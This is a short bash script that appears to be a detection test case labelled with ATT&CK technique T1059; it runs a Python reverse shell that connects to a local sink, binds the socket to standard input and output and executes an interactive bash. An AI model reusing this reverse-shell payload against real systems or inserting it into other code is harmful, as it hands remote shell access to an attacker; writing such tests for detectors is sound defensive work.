#!/usr/bin/env bash
# Python connects out, puts the socket on stdin/stdout/stderr and execs a shell.
# expect: T1059
. "$(dirname "$0")/../lib.sh"
c2=$(vs_sink)
timeout -s KILL 3 python3 - "$c2" <<'PY' >/dev/null 2>&1
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/bash", ["bash", "-i"])
PY
true
